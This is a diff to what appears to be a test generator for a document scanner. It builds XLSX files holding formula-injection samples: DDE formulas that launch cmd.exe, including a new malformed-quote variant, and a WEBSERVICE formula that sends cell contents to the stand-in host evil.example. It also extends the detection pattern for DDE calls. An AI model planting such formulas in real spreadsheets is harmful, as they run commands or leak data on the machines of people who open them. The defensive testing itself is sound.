@@ -43,6 +43,7 @@ FORMULAS = {
     "DDE": "cmd|'/c calc'!A0",
     "DDE behind a sum": "SUM(1)+cmd|'/c calc'!A0",
     "DDE of another": "MSEXCEL|'\\..\\cmd.exe /c calc'!_xlbgnm.A1",
+    "DDE with a quote too many": "MSEXCEL|'\\..\\cmd.exe' /c calc'!_xlbgnm.A1",
     "web service": '_xlfn.WEBSERVICE("http://evil.example/"&amp;A1)',
     "picture": '_xlfn.IMAGE("http://evil.example/a.png")',
     "live data": 'RTD("evil",,"x")',
@@ -63,6 +64,8 @@ def cases():
             members = {"[Content_Types].xml": content_types("XLSX"), "xl/workbook.xml": "<a/>"}
             data = zipped({**members, part: wrapped.format(formula)})
             alive = re.escape(formula[:12]).encode()
+            if "|" in formula:
+                alive += b"[^<]{0,300}!"  # a call names what it asks for
             yield Case(f"Excel {where}: {name}", "a.xlsx", data, "external", b">\\s*" + alive)
     for name, element in {"DDE link": "ddeLink", "object link": "oleLink"}.items():
         data = openxml("XLSX", {"xl/externalLinks/externalLink1.xml": f"<a><{element}/></a>"})
